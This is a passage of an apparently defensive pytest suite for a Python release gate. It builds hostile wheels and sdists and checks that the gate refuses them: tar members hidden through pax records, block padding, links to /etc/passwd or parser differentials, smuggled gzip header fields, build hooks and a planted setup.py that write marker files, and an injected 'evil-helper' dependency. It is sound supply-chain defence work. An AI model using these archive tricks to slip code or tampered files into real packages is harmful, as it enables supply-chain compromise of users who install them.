        "trailing space",
        "NTFS stream",
        "8.3 short name",
        "zero-width space",
        "NFD",
        "device name",
        "COM with a superscript 1",
        "a folder named lpt with a superscript 2",
        "LPT with a superscript 3, a space and an extension",
    ],
)
def test_name_that_aliases_on_another_file_system_is_refused(built: Built, tmp_path: Path, planted: str) -> None:
    members = with_true_record(
        [*wheel_members(built.wheel), RawMember(planted.encode(), altered_table(built), flags=0x800)]
    )
    report = judge(write_wheel(built, tmp_path, members))
    refused_with(report, "G310", planted)
    refused_with(report, "G107", planted)


@pytest.mark.parametrize(
    ("first", "second"),
    [
        (TABLE.wheel_path, TABLE.wheel_path.replace("_tables", "_Tables")),
        (TABLE.wheel_path, TABLE.wheel_path.replace("neurobrix/", "NeuroBrix/")),
        ("neurobrix/caf\u00e9.py", f"neurobrix/{NFD}.py"),
        # round 17: NTFS and exFAT upcase the dotless i to I, where case folding keeps it apart from i
        ("neurobrix/cli.py", "neurobrix/cl\u0131.py"),
        ("neurobrix/__init__.py", "neurobr\u0131x/__init__.py"),
        (TABLE.wheel_path, TABLE.wheel_path.replace("nvidia", "nvid\u0131a")),
    ],
    ids=[
        "case of a folder",
        "case of the package",
        "NFC and NFD",
        "a dotless i in a module's name",
        "a dotless i in the package's name",
        "a dotless i in a class's tables",
    ],
)
def test_members_that_collide_on_case_or_unicode_form_are_refused(
    built: Built, tmp_path: Path, first: str, second: str
) -> None:
    members = wheel_members(built.wheel)
    if first not in [m.name.decode() for m in members]:
        members.append(RawMember(first.encode(), b"x = 1\n", flags=0x800))
    members.append(RawMember(second.encode(), altered_table(built), flags=0x800))
    report = judge(write_wheel(built, tmp_path, with_true_record(members)))
    assert "same file as" in refused_with(report, "G305", second).message


# 6. The sdist: its build configuration never runs unless it is the repository's, and its tar reads one way


def sdist_with(
    built: Built,
    folder: Path,
    replace: dict[str, bytes] | None = None,
    add: list[RawTarMember] | None = None,
    after: bytes = b"",
) -> Path:
    members = [
        RawTarMember(m.name, (replace or {}).get(m.name[len(built.root) + 1 :], m.data), m.type)
        for m in sdist_members(built.sdist)
    ]
    folder.mkdir(parents=True, exist_ok=True)
    return write_sdist(folder / built.sdist.name, raw_tar([*members, *(add or [])], after=after))


@pytest.fixture
def builds(monkeypatch: pytest.MonkeyPatch) -> list[Path]:
    """The source folders the gate builds a wheel from."""
    import gate.sdist

    started: list[Path] = []
    build_wheel = gate.sdist.build_wheel

    def spy(source: Path, out: Path) -> Path:
        started.append(source)
        return build_wheel(source, out)

    monkeypatch.setattr(gate.sdist, "build_wheel", spy)
    return started


@pytest.mark.parametrize("attack", ["force-include", "version override", "build hook"])
def test_sdist_build_configuration_that_changes_what_ships_is_refused_unbuilt(
    built: Built, tmp_path: Path, builds: list[Path], attack: str
) -> None:
    marker = tmp_path / "hook-ran"
    text = (REPO / "pyproject.toml").read_bytes()
    add: list[RawTarMember] = []
    if attack == "force-include":
        text = text.replace(b'"tables" = "neurobrix/_tables"', b'"evil" = "neurobrix/_tables"')
        add = [RawTarMember(f"{built.root}/evil/{TABLE.path}", altered_table(built))]
    elif attack == "version override":
        text = text.replace(b'dynamic = ["version"]', b'version = "9.9.9"')
    else:
        text += b'\n[tool.hatch.build.hooks.custom]\npath = "hatch_build.py"\n'
        hook = (
            b"from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
            b"class CustomBuildHook(BuildHookInterface):\n    def initialize(self, version, build_data):\n        "
            + marker_code(marker)
        )
        add = [RawTarMember(f"{built.root}/hatch_build.py", hook)]
    sdist = sdist_with(built, tmp_path / "dist", replace={"pyproject.toml": text}, add=add)
    report = judge(built.wheel, sdist, smoke=True)
    refused_with(report, "G509", f"{built.root}/pyproject.toml", built.sdist.name)
    for extra in add:
        assert [f for f in report.findings if f.path == extra.name and f.code in ("G504", "G509")]
    assert builds == [] and not marker.exists()
    assert [s.status for s in report.smoke] == ["skipped"]


def test_sdist_pkg_info_with_an_added_requirement_is_refused(built: Built, tmp_path: Path) -> None:
    name = f"{built.root}/PKG-INFO"
    pkg_info = next(m.data for m in sdist_members(built.sdist) if m.name == name)
    forged = pkg_info.replace(b"Requires-Dist:", b"Requires-Dist: evil-helper>=1\nRequires-Dist:", 1)
    report = judge(sdist_with(built, tmp_path, replace={"PKG-INFO": forged}))
    assert "evil-helper" in refused_with(report, "G406", name).message


@pytest.mark.parametrize(
    "attack",
    [
        "pax path",
        "pax linkpath",
        "pax size",
        "GNU long name",
        "second tar after the end",
        "symlink",
        "hardlink",
        "outside the top folder",
        "beside the top folder",
        "beside tables/",
        "setup.py",
    ],
)
def test_sdist_tar_that_hides_or_redirects_a_member_is_refused(built: Built, tmp_path: Path, attack: str) -> None:
    table = f"{built.root}/tables/{TABLE.path}"
    evil = altered_table(built)
    add, after = [], b""
    if attack.startswith("pax"):
        key = attack.split()[1]
        add = [RawTarMember(f"{built.root}/notes.txt", evil, pax={key: table if key != "size" else "1"})]
    elif attack == "GNU long name":
        add = [RawTarMember(f"{built.root}/notes.txt", evil, gnu_long_name=table)]
    elif attack == "second tar after the end":
        after = raw_tar([RawTarMember(table, evil)])
    elif attack in ("symlink", "hardlink"):
        kind = b"2" if attack == "symlink" else b"1"
        add = [RawTarMember(f"{built.root}/tables/link.yaml", b"", kind, linkname="/etc/passwd")]
    elif attack == "outside the top folder":
        add = [RawTarMember("elsewhere/evil.py", b"x = 1\n")]
    elif attack == "beside the top folder":  # a folder whose name starts with the top folder's
        add = [RawTarMember(f"{built.root}-evil/setup.py", b"x = 1\n")]
    elif attack == "beside tables/":  # a file whose name starts with the tables folder's
        add = [RawTarMember(f"{built.root}/tables_hook.py", b"x = 1\n")]
    else:
        add = [RawTarMember(f"{built.root}/setup.py", marker_code(tmp_path / "setup-ran"))]
    report = judge(sdist_with(built, tmp_path, add=add, after=after))
    expected = {
        "pax path": "G313",
        "pax linkpath": "G313",
        "pax size": "G313",
        "GNU long name": "G313",
        "second tar after the end": "G311",
        "symlink": "G304",
        "hardlink": "G304",
        "outside the top folder": "G507",
        "beside the top folder": "G507",
        "beside tables/": "G509",
        "setup.py": "G509",
    }[attack]
    assert expected in codes(report), report.findings
    assert all(f.dist == built.sdist.name for f in report.findings)
    assert not (tmp_path / "setup-ran").exists()


def _pax_record(key: str, value: str) -> bytes:
    """One pax record, ``LEN key=value\\n`` with LEN counting itself."""
    body = f" {key}={value}\n".encode()
    length = len(body) + 1
    while len(str(length)) + len(body) != length:
        length = len(str(length)) + len(body)
    return str(length).encode() + body


def _padded(data: bytes) -> bytes:
    return data + bytes(-len(data) % 512)


@pytest.mark.parametrize("attack", ["pax record in the padding", "code in a member's padding"])
def test_sdist_bytes_in_block_padding_are_refused(built: Built, tmp_path: Path, attack: str) -> None:
    """Python's tarfile (pip's sdist reader) reads a whole pax block, records past the declared size
    included: a hidden ``size`` there makes a file longer than its header says, its extra bytes in the
    padding of its last block, where a reader that trusts the header never looks."""
    payload = b"\nimport pathlib; pathlib.Path('PWNED').write_text('ran')\n"
    out = bytearray()
    done = False
    for m in sdist_members(built.sdist):
        info = tarfile.TarInfo(m.name)
        info.size, info.type, info.mode, info.mtime = len(m.data), m.type, m.mode, 0
        room = -len(m.data) % 512
        if not done and m.type == tarfile.REGTYPE and m.name.endswith(".py") and room > len(payload) + 100:
            done = True
            if attack == "pax record in the padding":
                visible = _pax_record("mtime", "1580601600")
                hidden = _pax_record("size", str(len(m.data) + len(payload)))
                pax = tarfile.TarInfo("././@PaxHeader")
                pax.size, pax.type, pax.mode = len(visible), tarfile.XHDTYPE, 0  # as tarfile writes one
                out += pax.tobuf(tarfile.USTAR_FORMAT) + _padded(visible + hidden)
            out += info.tobuf(tarfile.USTAR_FORMAT) + _padded(m.data + payload)
            continue
        out += info.tobuf(tarfile.USTAR_FORMAT) + _padded(m.data)
    assert done
    out += bytes(1024) + bytes(-(len(out) + 1024) % tarfile.RECORDSIZE)
    report = judge(write_sdist(tmp_path / built.sdist.name, bytes(out)))
    assert report.exit_code == 1 and not report.passed
    assert [f for f in report.findings if f.code == "G312" and "padding" in f.message], report.findings


@pytest.mark.parametrize(
    ("mode", "said"),
    [
        (0o755, "executable, the repository's file is not"),
        (0o4644, "setuid"),
        (0o666, "world-writable"),
        (0o1644, "sticky"),  # a planted bug let the sticky bit through (the folder's test has world-writable too)
    ],
    ids=["executable", "setuid", "world-writable", "sticky"],
)
def test_sdist_member_modes_pip_would_keep_are_refused(built: Built, tmp_path: Path, mode: int, said: str) -> None:
    """pip keeps an sdist member's executable bits when it unpacks, and the build backend records them in
    the wheel: a mode is held against git's, and special bits are refused."""
    members = sdist_members(built.sdist)
    target = next(m for m in members if m.name.endswith("/neurobrix/__init__.py"))
    target.mode = mode
    report = judge(write_sdist(tmp_path / built.sdist.name, raw_tar(members)))
    finding = refused_with(report, "G509", target.name)
    assert said in finding.message


def test_sdist_file_the_repository_tracks_executable_is_held_to_its_bit(built: Built, tmp_path: Path) -> None:
    """A file git tracks executable (.ci/run), carried in the sdist with its bytes and mode 644: every other file of
    the sdist is the repository's, so only the bit says it is not the tracked file (mutation round: a mode held
    against git's one way only, executable where git's is not, and this sdist passed)."""
    tracked = subprocess.run(["git", "ls-files", "-s", ".ci/run"], cwd=REPO, capture_output=True, text=True, check=True)
    assert tracked.stdout.startswith("100755 ")
    run = RawTarMember(f"{built.root}/.ci/run", (REPO / ".ci" / "run").read_bytes(), mode=0o644)
    report = judge(sdist_with(built, tmp_path, add=[run]))
    assert codes(report) == {"G509"}
    assert "not executable, the repository's file is" in refused_with(report, "G509", run.name).message


def test_sdist_pkg_info_executable_is_refused(built: Built, tmp_path: Path) -> None:
    """PKG-INFO is no file git tracks, so its mode is held to the one a build writes (planted, 2026-12-03: only
    tracked files' modes judged, and an executable PKG-INFO passed)."""
    members = sdist_members(built.sdist)
    target = next(m for m in members if m.name == f"{built.root}/PKG-INFO")
    target.mode = 0o755
    report = judge(write_sdist(tmp_path / built.sdist.name, raw_tar(members)))
    assert "executable" in refused_with(report, "G509", target.name).message


@pytest.mark.parametrize("folder", [".git/", "neurobrix/evil/", "src/neurobrix/", "neurobrix.egg-info/"])
def test_sdist_folder_entry_for_no_file_is_refused(built: Built, tmp_path: Path, folder: str) -> None:
    """An empty folder is nothing git tracks, yet every file of the sdist was the repository's and it passed: pip
    unpacks it and builds beside it (hatchling stops its search for a .gitignore at a .git), the gate's rebuild
    writes files only, and the index serves it with the sources."""
    name = f"{built.root}/{folder}"
    sdist = sdist_with(built, tmp_path, add=[RawTarMember(name, b"", tarfile.DIRTYPE, mode=0o755)])
    report = judge(sdist)
    assert codes(report) == {"G509"} and "folder entry" in refused_with(report, "G509", name).message


def test_sdist_folder_with_special_mode_is_refused(built: Built, tmp_path: Path) -> None:
    members = [RawTarMember(f"{built.root}/neurobrix/", b"", tarfile.DIRTYPE, mode=0o1777), *sdist_members(built.sdist)]
    report = judge(write_sdist(tmp_path / built.sdist.name, raw_tar(members)))
    assert "sticky" in refused_with(report, "G509", f"{built.root}/neurobrix/").message


@pytest.mark.parametrize("exclusions", [".gitignore", ".hgignore"])
def test_sdist_without_the_gitignore_hatchling_reads_is_refused(built: Built, tmp_path: Path, exclusions: str) -> None:
    """Every file of the sdist was the repository's, and the gate's rebuild in a clean temporary folder gave the
    right wheel; but hatchling, finding no .gitignore beside pyproject.toml, takes the first one in a folder above
    the unpacked sdist: pip (or `python -m build`) with a TMPDIR under a folder whose .gitignore says `ops/` built a
    wheel without neurobrix/ops/. It looks for an .hgignore the same way: the repository tracks an empty one, which
    the sdist must carry (without it tracked, this case finds the sdist complete)."""
    name = f"{built.root}/{exclusions}"
    members = [m for m in sdist_members(built.sdist) if m.name != name]
    report = judge(write_sdist(tmp_path / built.sdist.name, raw_tar(members)))
    assert codes(report) == {"G509"} and "missing" in refused_with(report, "G509", name).message


def test_huge_numbers_are_findings_not_crashes(built: Built, tmp_path: Path) -> None:
    """A RECORD size or a pax record length of thousands of digits (past Python's int-parsing limit)."""
    record = f"{built.dist_info}/RECORD"
    members = wheel_members(built.wheel)
    rows = member(members, record).data.decode().splitlines()
    path, digest, _ = rows[0].split(",")
    member(members, record).data = ("\n".join([f"{path},{digest},{'1' * 5000}", *rows[1:]]) + "\n").encode()
    report = judge(write_wheel(built, tmp_path, members))
    assert "G206" in codes(report), report.findings
    visible = b"0" * 5000 + _pax_record("mtime", "1")
    sdist_members_ = sdist_members(built.sdist)
    out = bytearray()
    pax = tarfile.TarInfo("././@PaxHeader")
    pax.size, pax.type, pax.mode = len(visible), tarfile.XHDTYPE, 0  # as tarfile writes one
    out += pax.tobuf(tarfile.USTAR_FORMAT) + _padded(visible)
    for m in sdist_members_:
        info = tarfile.TarInfo(m.name)
        info.size, info.type, info.mode, info.mtime = len(m.data), m.type, m.mode, 0
        out += info.tobuf(tarfile.USTAR_FORMAT) + _padded(m.data)
    out += bytes(1024) + bytes(-(len(out) + 1024) % tarfile.RECORDSIZE)
    (tmp_path / "huge").mkdir()
    report = judge(write_sdist(tmp_path / "huge" / built.sdist.name, bytes(out)))
    assert "G312" in codes(report), report.findings


def test_code_planted_beside_the_dists_never_runs_in_the_gates_tools(built: Built, tmp_path: Path) -> None:
    """twine runs on each dist from the dist's folder: a ``twine.py`` (or a module twine imports) planted
    there must not be imported in its place."""
    folder = tmp_path / "upload"
    folder.mkdir()
    wheel, sdist = folder / built.wheel.name, folder / built.sdist.name
    wheel.write_bytes(built.wheel.read_bytes())
    sdist.write_bytes(built.sdist.read_bytes())
    marker = tmp_path / "planted-code-ran"
    for module in ("twine", "rich", "requests", "readme_renderer"):
        (folder / f"{module}.py").write_text(f"import pathlib\npathlib.Path({str(marker)!r}).write_text('ran')\n")
    report = check([wheel, sdist], Options(REFERENCE, smoke=False, tools=True))
    assert not marker.exists()
    assert report.passed, report.findings


def test_sdist_pax_header_of_300000_allowed_records_is_refused_at_once(built: Built, tmp_path: Path) -> None:
    """Each record is an allowed time, but a header of 300,000 of them (5 MiB; 250 MiB fit the limits, and
    took the gate and twine two minutes) is no header a tool writes: refused by its size, before any record."""
    visible = _pax_record("mtime", "1580601600") * 300_000
    out = bytearray()
    pax = tarfile.TarInfo("././@PaxHeader")
    pax.size, pax.type, pax.mode = len(visible), tarfile.XHDTYPE, 0  # as tarfile writes one
    out += pax.tobuf(tarfile.USTAR_FORMAT) + _padded(visible)
    for m in sdist_members(built.sdist):
        info = tarfile.TarInfo(m.name)
        info.size, info.type, info.mode, info.mtime = len(m.data), m.type, m.mode, 0
        out += info.tobuf(tarfile.USTAR_FORMAT) + _padded(m.data)
    out += bytes(1024) + bytes(-(len(out) + 1024) % tarfile.RECORDSIZE)
    (tmp_path / "many").mkdir()
    start = time.monotonic()
    report = judge(write_sdist(tmp_path / "many" / built.sdist.name, bytes(out)))
    assert time.monotonic() - start < 2.0
    assert "bytes" in refused_with(report, "G312", "././@PaxHeader").message


@pytest.mark.parametrize("key", ["mtime", "atime", "uid", "uname"])
def test_sdist_pax_value_an_unpacker_cannot_apply_is_refused(built: Built, tmp_path: Path, key: str) -> None:
    """A time past the platform's range (pip's tarfile raises OverflowError), or a huge id, or a name with
    control characters: a valid archive to the gate that pip or uv cannot unpack."""
    value = {"mtime": "1e400", "atime": "-5", "uid": "99999999999999999999", "uname": "a\tb"}[key]
    members = [
        RawTarMember(m.name, m.data, m.type, pax={key: value}) if m.name.endswith("/pyproject.toml") else m
        for m in sdist_members(built.sdist)
    ]
    report = judge(write_sdist(tmp_path / built.sdist.name, raw_tar(members)))
    assert [f for f in report.findings if f.code == "G312" and key in f.message], report.findings


def test_sdist_of_two_gzip_members_is_refused(built: Built, tmp_path: Path) -> None:
    """Python's gzip and pip read concatenated members as one stream; uv reads only the first."""
    tar = raw_tar(sdist_members(built.sdist))
    half = len(tar) // 1024 * 512
    (tmp_path / built.sdist.name).write_bytes(gzip.compress(tar[:half], mtime=0) + gzip.compress(tar[half:], mtime=0))
    report = judge(tmp_path / built.sdist.name)
    assert [f for f in report.findings if f.code == "G311" and "second member" in f.message], report.findings


def test_sdist_header_with_a_signed_checksum_is_refused(built: Built, tmp_path: Path) -> None:
    """The old signed header sum, valid to tarfile, refused by uv: only POSIX's unsigned one is read one way."""
    tar = bytearray(raw_tar(sdist_members(built.sdist)))
    tar[265:267] = b"\xe9\xe9"  # two bytes above 127 in the first header's owner name
    tar[148:156] = b" " * 8
    signed = sum(b - 256 if b > 127 else b for b in tar[:512])
    tar[148:156] = b"%06o\x00 " % signed
    report = judge(write_sdist(tmp_path / built.sdist.name, bytes(tar)))
    assert [f for f in report.findings if f.code == "G312" and "checksum" in f.message], report.findings


@pytest.mark.parametrize(("field", "at"), [("devmajor", 329), ("devminor", 337)])
def test_sdist_header_tarfile_stops_at_is_refused(built: Built, tmp_path: Path, field: str, at: int) -> None:
    """A device number that is no octal number, in a file's header with a true checksum: tarfile (pip's sdist
    unpacker) takes that header for the end of the archive and silently unpacks only the members before it (here
    the package without its tables, pyproject.toml or PKG-INFO), while a reader that skips the field sees them all."""
    members = sdist_members(built.sdist)
    first_table = next(i for i, m in enumerate(members) if m.name.startswith(f"{built.root}/tables/"))
    tar = bytearray(raw_tar(members))
    header = sum(512 + -(-len(m.data) // 512) * 512 for m in members[:first_table])
    assert tar[header : header + 100].rstrip(b"\0").decode() == members[first_table].name
    tar[header + at : header + at + 8] = b"evil!!!\0"
    tar[header + 148 : header + 156] = b" " * 8
    tar[header + 148 : header + 156] = b"%06o\x00 " % sum(tar[header : header + 512])
    sdist = write_sdist(tmp_path / built.sdist.name, bytes(tar))
    with tarfile.open(sdist) as unpacked:
        assert len(unpacked.getmembers()) == first_table  # what pip would build from
    report = judge(sdist)
    assert field in refused_with(report, "G312", members[first_table].name).message


def tar_with_header_bytes(built: Built, edits: dict[int, bytes]) -> tuple[bytes, str]:
    """The sdist's tar with bytes of the package's ``__init__.py`` header replaced at their offsets, its checksum
    made true again; and that member's name."""
    members = sdist_members(built.sdist)
    target = next(i for i, m in enumerate(members) if m.name.endswith("/neurobrix/__init__.py"))
    tar = bytearray(raw_tar(members))
    at = sum(512 + -(-len(m.data) // 512) * 512 for m in members[:target])
    for offset, value in edits.items():
        tar[at + offset : at + offset + len(value)] = value
    tar[at + 148 : at + 156] = b" " * 8
    tar[at + 148 : at + 156] = b"%06o\x00 " % sum(tar[at : at + 512])
    return bytes(tar), members[target].name


def tar_with_pax_payload(built: Built, payload: bytes) -> tuple[bytes, str]:
    """The sdist's tar with a pax header of exactly ``payload`` before pyproject.toml; and the pax header's name."""
    out = bytearray()
    for m in sdist_members(built.sdist):
        info = tarfile.TarInfo(m.name)
        info.size, info.type, info.mode, info.mtime = len(m.data), m.type, m.mode, 0
        if m.name.endswith("/pyproject.toml"):
            pax = tarfile.TarInfo("././@PaxHeader")
            pax.size, pax.type, pax.mode = len(payload), tarfile.XHDTYPE, 0  # as tarfile writes one
            out += pax.tobuf(tarfile.USTAR_FORMAT) + _padded(payload)
        out += info.tobuf(tarfile.USTAR_FORMAT) + _padded(m.data)
    out += bytes(1024) + bytes(-(len(out) + 1024) % tarfile.RECORDSIZE)
    return bytes(out), "././@PaxHeader"


UV_REFUSES = {  # seventh round: tarfile (pip's unpacker) reads each of these, uv (0.13) refuses the whole sdist
    "a number with leading spaces": (lambda b: tar_with_header_bytes(b, {100: b"   644 \0"}), "mode field"),
    "a number field with no end": (lambda b: tar_with_header_bytes(b, {108: b"00000000"}), "uid field"),
    "a link target on a file": (lambda b: tar_with_header_bytes(b, {157: b"setup.py"}), "link target"),
    "an xstar trailer in the header's padding": (lambda b: tar_with_header_bytes(b, {508: b"tar\0"}), "padding"),
    "an empty pax header": (lambda b: tar_with_pax_payload(b, b""), "no record"),
    "a pax record set twice": (
        lambda b: tar_with_pax_payload(b, _pax_record("mtime", "1580601600") + _pax_record("mtime", "0")),
        "twice",
    ),
}


@pytest.mark.parametrize("attack", list(UV_REFUSES))
def test_sdist_header_uv_refuses_and_tarfile_reads_is_refused(built: Built, tmp_path: Path, attack: str) -> None:
    make, said = UV_REFUSES[attack]
    tar, name = make(built)
    with tarfile.open(fileobj=io.BytesIO(tar)) as unpacked:  # what pip unpacks: every member, as without the change
        assert len(unpacked.getmembers()) == len(sdist_members(built.sdist))
    report = judge(write_sdist(tmp_path / built.sdist.name, tar))
    assert said in refused_with(report, "G312", name).message


def test_sdist_gzip_header_crc_is_refused(built: Built, tmp_path: Path) -> None:
    """A gzip header CRC (FHCRC): Python's gzip (pip) skips its two bytes, uv (0.13) inflates from them (here it
    fails; a stream that inflates both ways is another archive to it)."""
    tar = raw_tar(sdist_members(built.sdist))
    header = b"\x1f\x8b\x08\x02" + bytes(4) + b"\x02\xff"  # deflate, FHCRC, no time, best compression, Unix
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = packer.compress(tar) + packer.flush()
    sdist = tmp_path / built.sdist.name
    sdist.write_bytes(
        header + struct.pack("<H", zlib.crc32(header) & 0xFFFF) + body + struct.pack("<LL", zlib.crc32(tar), len(tar))
    )
    assert gzip.decompress(sdist.read_bytes()) == tar  # what pip unpacks
    assert "header CRC" in refused_with(judge(sdist), "G313", None, built.sdist.name).message


def test_sdist_gzip_header_with_reserved_flags_is_a_finding(built: Built, tmp_path: Path) -> None:
    """Reserved gzip flag bits: Python's gzip (pip's and twine's tarfile) ignores them and unpacks the sdist, zlib
    refuses the stream. The gate answered exit 2, "not a gzip stream, so not an sdist"; it is an sdist pip installs,
    so it is refused as one (exit 1, a finding on the dist)."""
    sdist = tmp_path / built.sdist.name
    data = bytearray(built.sdist.read_bytes())
    data[3] |= 0x20
    sdist.write_bytes(bytes(data))
    with tarfile.open(sdist) as unpacked:  # what pip unpacks
        assert len(unpacked.getmembers()) == len(sdist_members(built.sdist))
    assert "reserved flag bits" in refused_with(judge(sdist), "G313", None, built.sdist.name).message


def gzip_with_header_fields(tar: bytes, flags: int, fields: bytes) -> bytes:
    """``tar`` in one gzip member whose header sets ``flags`` and holds ``fields`` (its optional fields, in order)."""
    packer = zlib.compressobj(1, zlib.DEFLATED, -15)
    header = b"\x1f\x8b\x08" + bytes([flags]) + bytes(4) + b"\x04\xff"  # fastest compression, no system
    return header + fields + packer.compress(tar) + packer.flush() + struct.pack("<LL", zlib.crc32(tar), len(tar))


GZIP_FIELDS = {  # the header's optional fields, which Python's gzip and zlib skip: (FLG bits, the fields, said)
    "an extra field": (0x04, struct.pack("<H", len(PAYLOAD)) + PAYLOAD, "extra field (FEXTRA) of"),
    "a comment": (0x10, PAYLOAD + b"\0", "comment (FCOMMENT) of"),
    "a file name other than the tar's": (0x08, b"setup.py\0", "file name (FNAME) of 8 bytes"),
}


@pytest.mark.parametrize("attack", list(GZIP_FIELDS))
def test_sdist_gzip_header_fields_that_hold_bytes_are_refused(built: Built, tmp_path: Path, attack: str) -> None:
    """A gzip header's extra field (up to 64 KiB), comment or file name (of any length): Python's gzip (pip, twine)
    and zlib skip them and unpack the sdist as without them, so an sdist passed with any payload there, uploaded and
    judged by nothing. Only the tar's own file name, which Python's gzip writes, is read as a dist's."""
    flags, fields, said = GZIP_FIELDS[attack]
    tar = raw_tar(sdist_members(built.sdist))
    sdist = tmp_path / built.sdist.name
    sdist.write_bytes(gzip_with_header_fields(tar, flags, fields))
    assert gzip.decompress(sdist.read_bytes()) == tar  # what pip unpacks
    assert said in refused_with(judge(sdist), "G313", None, built.sdist.name).message
    sdist.write_bytes(gzip_with_header_fields(tar, 0x08, built.sdist.name.removesuffix(".gz").encode() + b"\0"))
    own_name = SdistArchive(sdist, Limits())  # the name Python's gzip writes (tarfile's "w:gz") is read as none
    assert own_name.findings == [] and own_name.members


# attack -> (the member planted, the finding, what tarfile makes of it)
TARFILE_READS_OTHERWISE: dict[str, tuple[Callable[[Built], RawTarMember], str, str]] = {
    "a global pax header": (
        lambda b: RawTarMember("././@PaxGlobal", _pax_record("path", f"{b.root}/tables/{TABLE.path}"), tarfile.XGLTYPE),
        "G313",
        "renames",
    ),
    "a GNU sparse member": (lambda b: RawTarMember(f"{b.root}/notes.txt", b"", tarfile.GNUTYPE_SPARSE), "G313", "file"),
    "a contiguous file": (lambda b: RawTarMember(f"{b.root}/notes.txt", b"", tarfile.CONTTYPE), "G304", "file"),
    "an old-style folder": (lambda b: RawTarMember(f"{b.root}/neurobrix/evil/", b"", tarfile.AREGTYPE), "G310", "dir"),
}


@pytest.mark.parametrize("attack", list(TARFILE_READS_OTHERWISE))
def test_sdist_member_types_tarfile_unpacks_its_own_way_are_refused(built: Built, tmp_path: Path, attack: str) -> None:
    """Member types tarfile (pip's sdist unpacker) reads where the gate sees no file: a global pax header, whose
    ``path`` tarfile gives to every member after it (the last member below, notes.txt, unpacks over a table with
    other bytes: pip 23.2 built and installed that table, uv 0.13 refuses the sdist); a GNU sparse or a contiguous
    member, which it unpacks as a plain file; and an old-style (V7) file entry whose name ends in '/', which it makes
    a folder (one for no file of the repository)."""
    make, code, reads = TARFILE_READS_OTHERWISE[attack]
    planted = make(built)
    notes = RawTarMember(f"{built.root}/notes.txt", altered_table(built))
    tar = raw_tar([*sdist_members(built.sdist), planted, notes])
    with tarfile.open(fileobj=io.BytesIO(tar)) as unpacked:  # what pip unpacks
        members = unpacked.getmembers()
        if reads == "renames":
            assert members[-1].name == f"{built.root}/tables/{TABLE.path}"
            assert unpacked.extractfile(members[-1]).read() == notes.data  # type: ignore[union-attr]
        else:
            shown = next(m for m in members if m.name == planted.name.rstrip("/"))
            assert shown.isdir() if reads == "dir" else shown.isreg()
    report = judge(write_sdist(tmp_path / built.sdist.name, tar))
    refused_with(report, code, planted.name, built.sdist.name)


def with_prefix(tar: bytes, name: str) -> bytes:
    """``tar`` with the member ``name`` spelt across its ustar header's prefix and name fields (cut at /tables/)."""
    data = bytearray(tar)
    at = 0
    while data[at : at + 100].rstrip(b"\0").decode() != name:
        at += 512 + -(-int(data[at + 124 : at + 136].strip(b"\0 "), 8) // 512) * 512
    prefix, _, rest = name.rpartition("/tables/")
    data[at : at + 100] = f"tables/{rest}".encode().ljust(100, b"\0")
    data[at + 345 : at + 500] = prefix.encode().ljust(155, b"\0")
    return bytes(checksummed_header(data, at))


def checksummed_header(data: bytearray, at: int) -> bytearray:
    data[at + 148 : at + 156] = b" " * 8
    data[at + 148 : at + 156] = b"%06o\x00 " % sum(data[at : at + 512])
    return data


# twelfth round: how tarfile (pip) names and unpacks members, each read so by the gate (already refused)
TAR_SPELLINGS = {
    "an altered copy of a table before the table": ("before", "G305"),
    "an altered copy of a table after the table (tarfile unpacks the last)": ("after", "G305"),
    "a folder of a file's name": ("folder", "G305"),
    "an altered table spelt across the ustar prefix": ("prefix", "G503"),
}


@pytest.mark.parametrize("attack", list(TAR_SPELLINGS))
def test_sdist_members_tarfile_names_alike_are_judged_alike(built: Built, tmp_path: Path, attack: str) -> None:
    how, code = TAR_SPELLINGS[attack]
    name = f"{built.root}/tables/{TABLE.path}"
    members = sdist_members(built.sdist)
    altered = RawTarMember(name, altered_table(built))
    if how == "before":
        members.insert(0, altered)
    elif how == "after":
        members.append(altered)
    elif how == "folder":
        members.append(RawTarMember(f"{name}/", b"", tarfile.DIRTYPE, mode=0o755))
    else:
        members = [altered if m.name == name else m for m in members]
    tar = raw_tar(members)
    if how == "prefix":
        tar = with_prefix(tar, name)
    with tarfile.open(fileobj=io.BytesIO(tar)) as unpacked:  # what pip unpacks: both copies, the last one kept
        named = [m for m in unpacked.getmembers() if m.name == name]
        assert len(named) == (1 if how == "prefix" else 2)
        if how in ("after", "prefix"):
            assert unpacked.extractfile(named[-1]).read() == altered.data  # type: ignore[union-attr]
    report = judge(write_sdist(tmp_path / built.sdist.name, tar))
    refused_with(report, code, name if how != "folder" else f"{name}/", built.sdist.name)


def test_wheel_mode_with_executable_bits_and_no_file_type_is_judged_executable(built: Built, tmp_path: Path) -> None:
    """0o000755: plain to pip and installer (no regular-file type bits), executable to uv."""
    members = wheel_members(built.wheel)
    for m in members:
        if not m.name.endswith(b"/"):
            m.mode = 0o755
    report = judge(write_wheel(built, tmp_path, members))
    assert "G109" in codes(report), report.findings


@pytest.mark.parametrize(
    "marker", ["extra == 'd\x00ev'", "(" * 2000 + "extra == 'dev'" + ")" * 2000], ids=["NUL", "deep nesting"]
)
def test_metadata_marker_that_breaks_the_parser_is_a_finding(built: Built, tmp_path: Path, marker: str) -> None:
    metadata = metadata_of(built).replace(
        b"Requires-Dist:", f"Requires-Dist: twine>=7; {marker}\nRequires-Dist:".encode(), 1
    )
    wheel, path = wheel_with_file(built, tmp_path, "METADATA", metadata)
    report = judge(wheel)
    refused_with(report, "G404", path)


# 7. Wheel metadata held against pyproject.toml


def wheel_with_file(built: Built, tmp_path: Path, name: str, edit: bytes | None) -> tuple[Path, str]:
    path = f"{built.dist_info}/{name}"
    members = wheel_members(built.wheel)
    if edit is None:
        members = [m for m in members if m.name != path.encode()]
    elif path.encode() in [m.name for m in members]:
        member(members, path).data = edit
    else:
        members.append(RawMember(path.encode(), edit))
    return write_wheel(built, tmp_path, with_true_record(members)), path


def metadata_of(built: Built) -> bytes:
    with zipfile.ZipFile(built.wheel) as z:
        return z.read(f"{built.dist_info}/METADATA")


@pytest.mark.parametrize(
    ("edit", "said"),
    [
        (lambda m: m.replace(b"Requires-Dist:", b"Requires-Dist: evil-helper>=1\nRequires-Dist:", 1), "evil-helper"),
        (lambda m: m.replace(b"Requires-Python: >=3.10", b"Requires-Python: >=2.7"), "Requires-Python"),
        (lambda m: m.replace(b"Requires-Dist: torch<2.15,>=2.11", b"Requires-Dist: torch"), "torch"),
        (lambda m: m.replace(b"Summary:", b"Requires-External: libevil\nSummary:", 1), "Requires-External"),
